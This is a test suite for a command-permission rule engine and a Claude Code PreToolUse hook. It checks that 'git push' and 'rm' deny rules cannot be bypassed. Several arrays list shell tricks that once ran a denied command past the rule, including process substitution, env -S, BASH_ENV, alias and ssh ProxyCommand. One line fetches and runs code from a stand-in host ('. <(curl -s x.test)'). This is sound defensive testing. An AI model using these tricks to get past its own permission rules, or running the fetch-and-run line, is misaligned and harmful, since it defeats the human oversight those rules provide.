@@ -1,0 +1,349 @@
+// No way around a deny: lines that ran `git push` under a `Bash(git push:*)` deny (issue 37), and every wrapper the
+// rules peel, each run for real under `noema run --using shell` — once with the rule in audit mode, where the line runs
+// and a stand-in `git` leaves a marker (so the line does run the denied command), once enforced, where the run is
+// vetoed and the marker stays absent — and asked of `noema hook claude-code`, which answers deny. A property test
+// composes the grammar at random around a denied command and never finds an allow.
+import { after, describe, test } from "node:test";
+import assert from "node:assert/strict";
+import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import process from "node:process";
+import { decideLayer } from "../src/runtime/rules/match.ts";
+import { type RuleSet, toLayer } from "../src/runtime/rules/schema.ts";
+import { cliCommand } from "./helpers/cli.ts";
+import { runChild } from "./helpers/child.ts";
+import { tempDir } from "./helpers/tmp.ts";
+import { compose, prng, sq } from "./helpers/shell_compose.ts";
+
+const tmp = tempDir("noema-rules-bypass-");
+after(() => tmp.cleanup());
+
+const PUSH: RuleSet = { deny: [{ rule: "Bash(git push:*)", reason: "pushes go through review" }] };
+const RM: RuleSet = { deny: ["Bash(rm:*)"] };
+const layer = (set: RuleSet) => toLayer(set, { source: "/p/noema.jsonc", field: "rules", base: "/p" });
+const decide = (set: RuleSet, command: string) =>
+  decideLayer(layer(set), { tool: "Bash", command }, { cwd: "/p", home: "/home/u" });
+
+/**
+ * A line to deny. `BIN` stands for the folder of the stand-in `git`, `LOCK` for a lock file. `bash`: the line is
+ * bash syntax, so the run's step (noema's shell adapter runs `/bin/sh -c`) runs it as `bash -c '…'`; the hook gets
+ * the line itself (Claude Code runs its Bash tool in bash). `runs: false`: the program is not there to run here
+ * (sudo, doas, an ssh server), so only the verdict is checked.
+ */
+interface Case {
+  line: string;
+  rules?: RuleSet;
+  bash?: boolean;
+  runs?: false;
+}
+
+const ISSUE: Case[] = [
+  { line: "FOO=$(date) git push origin main" },
+  { line: 'bash --rcfile /dev/null -c "git push"' },
+  { line: 'bash --init-file /dev/null -c "git push"' },
+  { line: 'env -S"git push"' },
+  { line: 'env -iS"PATH=BIN git push"' },
+  { line: "env - PATH=BIN git push" },
+  { line: "env - rm x", rules: RM },
+  { line: 'flock LOCK -c "git push"' },
+  { line: "GLOB1/git push" },
+  { line: "GLOB2/git push" },
+  { line: '$"git" push', bash: true },
+  { line: "$'git' push", bash: true },
+  { line: 'source /dev/stdin <<< "git push"', bash: true },
+  { line: ". /dev/stdin <<< 'git push'", bash: true },
+  { line: "bash <(echo git push)", bash: true },
+  { line: ". <(echo git push)", bash: true },
+  { line: "source <(echo git push)", bash: true },
+  { line: "coproc NAME { git push; }", bash: true },
+  { line: "echo $(( $(git push) ))" },
+  { line: "echo $(git push)" },
+  // Text kept in a variable and evaluated later: arithmetic evaluates an array subscript's substitution.
+  { line: "X='a[$(git push)]'; echo $((X))", bash: true },
+];
+
+const WRAPPERS: Case[] = [
+  { line: "env git push" },
+  { line: "env -i PATH=BIN git push" },
+  { line: "env -S 'git push'" },
+  { line: "flock LOCK git push" },
+  { line: "bash --rcfile /dev/null -c 'git push'" },
+  { line: "sh -c 'git push'" },
+  { line: "nice -n 5 git push" },
+  { line: "ionice -c 3 git push" },
+  { line: "setsid -w git push" },
+  { line: "stdbuf -oL git push" },
+  { line: "chroot / git push" },
+  { line: "unshare -r git push" },
+  { line: "script -qc 'git push' /dev/null" },
+  { line: "su -c 'BIN/git push'" },
+  { line: "ssh -p 2 127.0.0.1 git push", runs: false },
+  { line: "timeout 30 git push" },
+  { line: "nohup git push" },
+  { line: "xargs git push" },
+  { line: "sudo git push", runs: false },
+  { line: "doas git push", runs: false },
+  { line: "time git push", bash: true },
+  { line: "command git push" },
+  { line: "builtin command git push", bash: true },
+  { line: "exec git push" },
+];
+
+/** Found while building: more ways around a deny, each of which ran the command before. */
+const MORE: Case[] = [
+  { line: "strace -fo /dev/null git push" },
+  { line: "sudo -iu root git push", runs: false },
+  { line: "shopt -s expand_aliases\nalias g=git\ng push", bash: true },
+  { line: "let 'a[$(git push)]'", bash: true },
+  { line: "printf -v 'a[$(git push)]' x", bash: true },
+  { line: "BASH_ENV=<(echo git push) bash -c :", bash: true },
+  { line: "mapfile -C 'git push' -c 1 <<< x", bash: true },
+  { line: "script -q -c'git push' /dev/null" },
+  { line: "ssh -o ProxyCommand='git push' 127.0.0.1" },
+  { line: "echo push | xargs git" },
+  { line: "mkdir push && find push -exec git {} \\;" },
+  { line: "runuser -u root -- git push" },
+  { line: "setpriv --no-new-privs git push" },
+  { line: "prlimit --nofile=1024 git push" },
+  { line: "fakeroot -- git push" },
+  { line: "sg root -c 'git push'" },
+  { line: "sg root 'git push'" },
+  { line: "hash -p BIN/git g; g push", bash: true },
+  { line: "echo 'git push' | xargs -I{} sh -c '{}'" },
+];
+
+/** Other runners peeled (not installed here, or not able to run in a container): checked in-process. */
+const RUNNERS = [
+  "nsenter -t 1 -m git push",
+  "runuser -u root -- ionice -c 3 git push",
+  "faketime '2020-01-01' git push",
+  "torsocks git push",
+  "proxychains4 -q git push",
+  "valgrind --quiet git push",
+  "ltrace -o /dev/null git push",
+  "catchsegv git push",
+  "systemd-run --user -p X=1 git push",
+  "pkexec --user ci git push",
+  "xvfb-run -a git push",
+  "dbus-launch git push",
+  "eatmydata git push",
+  "gosu ci git push",
+  "su-exec ci git push",
+  "tini -- git push",
+  "numactl -C 0 git push",
+  "chpst -u ci git push",
+  "firejail --quiet git push",
+];
+
+let n = 0;
+
+/** A workspace with a stand-in `git` that leaves `ran` when asked to push, and an `x` for `rm x`. */
+function workspace(rules: RuleSet) {
+  const ws = join(tmp.path, `w${++n}`);
+  const bin = join(ws, "bin");
+  mkdirSync(bin, { recursive: true });
+  const marker = join(ws, "ran");
+  writeFileSync(join(bin, "git"), `#!/bin/sh\n[ "$1" = push ] && : > ${sq(marker)}\nexit 0\n`);
+  chmodSync(join(bin, "git"), 0o755);
+  writeFileSync(join(ws, "x"), "");
+  writeFileSync(join(ws, "noema.jsonc"), JSON.stringify({ rules }));
+  const line = (c: Case) =>
+    c.line.replaceAll("BIN", bin).replaceAll("LOCK", join(ws, "lock"))
+      .replace("GLOB1", bin.replace(/\/bin$/, "/b?n")).replace("GLOB2", bin.replace(/^\/(.)/, "/$1*"));
+  /** Whether the denied program ran: the marker is there, or `rm x` removed x. */
+  const ran = (c: Case) => c.rules === RM ? !existsSync(join(ws, "x")) : existsSync(marker);
+  return { ws, bin, line, ran };
+}
+
+const env = (bin: string) =>
+  ({
+    ...process.env,
+    PATH: `${bin}:${process.env.PATH ?? "/usr/bin:/bin"}`,
+    NO_COLOR: "1",
+    NOEMA_ROOT: "",
+    NOEMA_USER_RULES: "",
+    NOEMA_HOOK_SERVER: "0",
+  }) as Record<string, string>;
+
+/** `noema run` of a one-step shell task running the line (as `bash -c` for bash syntax) in a fresh workspace. */
+async function run(c: Case, mode: "audit" | "enforce") {
+  const w = workspace({ ...(c.rules ?? PUSH), mode });
+  const line = w.line(c);
+  const task = {
+    task: "bypass",
+    using: "shell",
+    steps: [{ kind: "act", description: "the line", inputs: { command: c.bash ? `bash -c ${sq(line)}` : line } }],
+  };
+  writeFileSync(join(w.ws, "task.json"), JSON.stringify(task));
+  const [cmd, ...argv] = [...cliCommand(), "run", "task.json", "--json"];
+  const r = await runChild(cmd, argv, { cwd: w.ws, env: env(w.bin), timeoutMs: 90_000 });
+  return { ...r, w, line };
+}
+
+/** Waits for what an audited run started in the background (`coproc`) to show; a bound that only catches hangs. */
+async function eventually(check: () => boolean, ms = 20_000): Promise<boolean> {
+  const until = Date.now() + ms;
+  while (!check()) {
+    if (Date.now() > until) return false;
+    await new Promise((r) => setTimeout(r, 50));
+  }
+  return true;
+}
+
+/** The verdict of `noema hook claude-code` on a PreToolUse payload holding the line. */
+async function hook(c: Case): Promise<{ decision: string; reason: string }> {
+  const w = workspace(c.rules ?? PUSH);
+  const payload = {
+    session_id: `s-bypass-${n}`,
+    cwd: w.ws,
+    hook_event_name: "PreToolUse",
+    tool_name: "Bash",
+    tool_input: { command: w.line(c) },
+    tool_use_id: "toolu_1",
+  };
+  const [cmd, ...argv] = [...cliCommand(), "hook", "claude-code", "--root", join(w.ws, "root")];
+  const r = await runChild(cmd, argv, {
+    cwd: w.ws,
+    input: JSON.stringify(payload),
+    env: env(w.bin),
+    timeoutMs: 90_000,
+  });
+  if (r.code === 2) return { decision: "deny", reason: r.stderr };
+  assert.equal(r.code, 0, r.stderr);
+  const out = JSON.parse(r.stdout).hookSpecificOutput;
+  return { decision: out.permissionDecision, reason: out.permissionDecisionReason ?? "" };
+}
+
+const TIMEOUT = { timeout: 300_000 };
+
+for (const [title, cases] of [["the lines of issue 37", ISSUE], ["wrappers", WRAPPERS], ["more", MORE]] as const) {
+  describe(`${title}: denied in-process, under noema run --using shell, and by noema hook claude-code`, () => {
+    for (const c of cases) {
+      test(c.line, TIMEOUT, async () => {
+        const d = decide(c.rules ?? PUSH, c.line.replaceAll("GLOB1", "/usr/b?n").replaceAll("GLOB2", "/u*/bin"));
+        assert.equal(d.effect, "deny", `in-process: ${c.line}`);
+        const [audited, enforced, answer] = await Promise.all([run(c, "audit"), run(c, "enforce"), hook(c)]);
+        if (c.runs !== false) {
+          assert.ok(
+            await eventually(() => audited.w.ran(c)),
+            `audited, the line runs the denied program: ${audited.line}\n${audited.stderr}\n${audited.stdout}`,
+          );
+          const events = readFileSync(join(JSON.parse(audited.stdout).episode_dir, "events.jsonl"), "utf8");
+          assert.match(events, /audit: would be denied by rule/, "the audit layer records a would-veto");
+        }
+        assert.equal(enforced.code, 3, `enforced: vetoed (exit 3): ${enforced.stderr}\n${enforced.stdout}`);
+        assert.match(enforced.stdout, /Rules@1\.0/);
+        assert.equal(enforced.w.ran(c), false, `the denied program did not run: ${enforced.line}`);
+        assert.equal(answer.decision, "deny", `hook: ${answer.reason}`);
+        assert.match(answer.reason, /denied by rule "Bash\((git push|rm):\*\)"/);
+      });
+    }
+  });
+}
+
+describe("the verdict names what could not be resolved", () => {
+  test("a script from a process substitution, the input, an expansion; a command word from an expansion", () => {
+    const notes: [string, RegExp][] = [
+      ["bash <(echo git push)", /the script bash runs comes from <\(echo git push\)/],
+      [". <(curl -s x.test)", /the script \. runs comes from <\(curl -s x\.test\)/],
+      ['source "$F"', /the script source runs comes from \$F/],
+      ["source /dev/stdin", /source reads a script from its input/],
+      ["echo git push | ssh host", /ssh reads a script from its input/],
+      ["$(echo git) push", /"\$\(echo git\) push" is only known when it runs/],
+      ["/usr/b?n/git push", /"\/usr\/b\?n\/git push" is only known when it runs/],
+      ["echo push | xargs git", /"git …" is only known when it runs/],
+      ["find push -exec git {} \\;", /"git \{\}" is only known when it runs/],
+      ['env -S"$X"', /env's argument -S\$X is only known when it runs/],
+      ["bash $OPTS -c 'ls'", /the script bash runs comes from \$OPTS/],
+      ["parallel ::: 'git push'", /parallel builds the commands it runs from its arguments and input/],
+      ["enable -f ./x.so push", /enable -f loads a builtin from a file/],
+    ];
+    for (const [line, note] of notes) {
+      const d = decide(PUSH, line);
+      assert.equal(d.effect, "deny", line);
+      assert.match(d.note ?? "", note, line);
+    }
+  });
+
+  test("a substitution kept as text in a variable is read (it runs when the variable is expanded again)", () => {
+    for (
+      const line of [
+        "export PS4='$(git push)'",
+        "X='`git push`'$Y ls",
+        "declare -a A='($(git push))'",
+        "GIT_PAGER='git push' git log",
+        "GIT_SSH_COMMAND='git push' git fetch",
+      ]
+    ) {
+      assert.equal(decide(PUSH, line).effect, "deny", line);
+    }
+    assert.equal(decide(PUSH, "X='$(date)' ls").effect, "allow");
+  });
+
+  test("other runners of the command after their options are peeled", () => {
+    for (const line of RUNNERS) assert.equal(decide(PUSH, line).effect, "deny", line);
+  });
+
+  test("an ask rule fails closed the same way", () => {
+    for (const line of ["bash <(echo npm publish)", "FOO=$(date) npm publish", "env -S'npm publish'"]) {
+      assert.equal(
+        decideLayer(layer({ ask: ["Bash(npm publish:*)"] }), { tool: "Bash", command: line }, {
+          cwd: "/p",
+        }).effect,
+        "ask",
+        line,
+      );
+    }
+  });
+});
+
+describe("ordinary lines stay allowed", () => {
+  const allowed = [
+    "echo $(date)",
+    "FOO=$(date) ls",
+    "ls $(pwd)",
+    "echo $(( 1 + 2 ))",
+    "nice -n 5 make test",
+    "nice -n5 ls",
+    "EDITOR=vim git commit",
+    "grep '$(foo)' f",
+    "env -i PATH=/usr/bin ls",
+    "env -S'ls -la'",
+    "flock /tmp/l -c 'npm test'",
+    "bash --rcfile /dev/null -c 'echo hi'",
+    "source ./env.sh",
+    "timeout 5 git status",
+    "echo x | xargs ls",
+    "echo x | xargs -I{} ls {}",
+    "ssh host uptime",
+    "coproc NAME { sleep 1; }",
+    "$'git' status",
+  ];
+  for (const line of allowed) test(line, () => assert.equal(decide(PUSH, line).effect, "allow", line));
+
+  test("an allow rule still lets a peeled command through, and never an unknown one", () => {
+    const set: RuleSet = { allow: ["Bash(ls:*)", "Bash(nice:*)"], default: "deny" };
+    assert.equal(decide(set, "nice -n 5 ls -la").effect, "allow");
+    assert.equal(decide(set, "FOO=$(date) ls").effect, "deny", "date is not allowed");
+    assert.equal(decide(set, "bash <(echo ls)").effect, "deny");
+  });
+});
+
+describe("property: random compositions of the grammar around a denied command are never allowed", () => {
+  const N = 2000;
+  for (
+    const [rules, words, dir] of [
+      [PUSH, ["git", "push", "origin", "main"], "/usr/bin"],
+      [RM, ["rm", "-rf", "x"], "/bin"],
+    ] as const
+  ) {
+    test(`${N} lines around ${words.join(" ")} (seeded)`, () => {
+      const allowed: string[] = [];
+      for (let seed = 1; seed <= N; seed++) {
+        const line = compose(prng(seed), words, dir, 4);
+        if (decide(rules, line).effect !== "deny") allowed.push(`seed ${seed}: ${JSON.stringify(line)}`);
+      }
+      assert.deepEqual(allowed, []);
+    });
+  }
+});
